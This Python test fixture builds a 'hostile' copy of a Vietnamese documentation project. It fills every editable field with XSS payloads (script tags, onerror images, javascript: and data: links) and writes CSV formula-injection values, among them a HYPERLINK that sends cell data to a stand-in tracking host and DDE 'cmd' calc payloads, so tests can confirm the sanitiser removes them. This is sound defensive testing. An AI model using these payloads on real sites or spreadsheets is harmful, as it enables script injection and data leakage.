"""The hostile corpus: a scratch project (with the fixture overlay) whose every staff field holds
an attack, as a pull request from anyone could write it.

Each text field gets `payload(tag)`: a script, an `onerror` image breaking out of an attribute,
an attribute list, a Markdown link to `javascript:`, a `data:` image, a bare `javascript:`
address. `tag` names the field, so a test can look for that very text where it was typed.
Article and practice bodies get raw HTML attacks (`BODY`), which the sanitiser removes."""

from __future__ import annotations

import json
import re
from pathlib import Path

import yaml

from projects import overlay_project

ARTICLE = "docs/bai-viet/2025/bai-kiem-thu.md"
PRACTICE = "docs/mo-hinh/mo-hinh-kiem-thu.md"
QA = "docs/phan-anh/hoi-dap/2025.yaml"


def payload(tag: str) -> str:
    """What every field holds; `{: ... }` last, where an attribute list would apply to a heading."""
    return (
        f'{tag} "><img src=x onerror=alert(1)> <script>alert(2)</script> [bấm](javascript:alert(3)) '
        f"![x](data:image/png;base64,AAAA) javascript:alert(4) {{: onfocus=alert(5) autofocus tabindex=1 }}"
    )


BODY = """
Đoạn mở đầu của bài thử tấn công.

<script>alert('body-script')</script>

<img src="x" onerror="alert('body-onerror')">

<iframe src="javascript:alert('body-iframe')"></iframe>

[liên kết javascript](javascript:alert('body-link'))

![ảnh data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)

![ảnh ngoài](https://theo-doi.example/pixel.png)

<p onmouseover="alert('body-hover')">Đoạn có onmouseover.</p>

## Mục có thuộc tính {: onfocus=alert('body-attr') autofocus tabindex=1 }

Chữ an toàn vẫn hiện: `<script>alert('body-code')</script>`
"""
BODY_LINES = {
    "<script": 4,
    "onerror": 6,
    "<iframe": 8,
    "javascript:alert('body-link')": 10,
    "data:image/svg+xml": 12,
    "https://theo-doi.example/pixel.png": 14,
    "onmouseover": 16,
    "onfocus": 18,
}
"""The line of each attack, counted from the line after the front matter."""

IDENTITY_FIELDS = (
    "ten",
    "ten_chuyen_muc",
    "dia_chi",
    "email",
    "nguoi_chiu_trach_nhiem",
    "chuc_vu_nguoi_chiu_trach_nhiem",
)


def rewrite_yaml(path: Path, change) -> None:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=1000), encoding="utf-8")


def _plan(data: dict) -> None:
    data["tieu_de"] = payload("KH-tieu-de")
    for index, objective in enumerate(data["muc_tieu"]):
        objective["noi_dung"] = payload(f"MT{index}-noi-dung")
    for area in data["linh_vuc"]:
        area["ten"] = payload(f"LV{area['so']}-ten")
        for task in area.get("nhiem_vu", []):
            number = task["so"]
            task["noi_dung"] = payload(f"NV{number}-noi-dung")
            task["san_pham"] = [payload(f"NV{number}-san-pham")]
            task["chu_tri"] = payload(f"NV{number}-chu-tri")
    # Formula attacks on the published CSVs (the plan's reader strips a leading tab or CR).
    second = data["linh_vuc"][0]["nhiem_vu"][1]
    second["san_pham"] = ['=HYPERLINK("http://theo-doi.example/?d="&A1,"Bấm")']
    second["chu_tri"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    data["linh_vuc"][0]["nhiem_vu"][2]["chu_tri"] = "+1+cmd|' /C calc'!A0"
    data["linh_vuc"][0]["nhiem_vu"][3]["chu_tri"] = "-1+cmd|' /C calc'!A0"
    for indicator in data.get("chi_so", []):
        indicator["ten"] = payload(f"CS-{indicator['ma']}-ten")


def _front_matter(path: Path, fields: dict) -> None:
    text = path.read_text(encoding="utf-8")
    _, front, _ = text.split("---\n", 2)
    meta = yaml.safe_load(front)
    meta.update(fields)
    head = yaml.safe_dump(meta, allow_unicode=True, sort_keys=False, width=1000)
    path.write_text(f"---\n{head}---\n{BODY}", encoding="utf-8")


def _answers(data: dict) -> None:
    for item in data["hoi_dap"]:
        item["cau_hoi"] = payload(f"HD{item['so']}-cau-hoi")
        if item.get("tra_loi"):
            item["tra_loi"] = payload(f"HD{item['so']}-tra-loi")


def _channels(data: dict) -> None:
    data["thanh_pho"]["ten"] = payload("KENH-thanh-pho")
    data["gio_tiep"] = payload("KENH-gio-tiep")
    data["hom_thu"] = payload("KENH-hom-thu")


def _identity(project: Path) -> None:
    """Fill the identity fields of docs/don-vi.yaml by editing their lines (its comments stay)."""
    path = project / "docs" / "don-vi.yaml"
    text = path.read_text(encoding="utf-8")
    for key in IDENTITY_FIELDS:
        value = json.dumps(payload(f"DV-{key}"), ensure_ascii=False)  # a YAML double-quoted string
        text, count = re.subn(
            rf"^({key}:).*$", lambda m, value=value: f"{m.group(1)} {value}", text, count=1, flags=re.M
        )
        assert count == 1, key
    path.write_text(text, encoding="utf-8")


def hostile_project(target: Path) -> Path:
    project = overlay_project(target)
    rewrite_yaml(project / "plan" / "2025.yaml", _plan)
    _front_matter(
        project / ARTICLE,
        {
            "tieu_de": payload("BV-tieu-de"),
            "tom_tat": payload("BV-tom-tat"),
            "tac_gia": [payload("BV-tac-gia")],
            "anh_bia_mo_ta": payload("BV-anh-bia-mo-ta"),
        },
    )
    _front_matter(
        project / PRACTICE,
        {
            "tieu_de": payload("MH-tieu-de"),
            "tom_tat": payload("MH-tom-tat"),
            "tac_gia": payload("MH-tac-gia"),
            "anh_bia_mo_ta": payload("MH-anh-bia-mo-ta"),
            "ket_qua": [payload("MH-ket-qua")],
        },
    )
    rewrite_yaml(project / QA, _answers)
    rewrite_yaml(project / "docs" / "phan-anh" / "kenh.yaml", _channels)
    _identity(project)
    return project
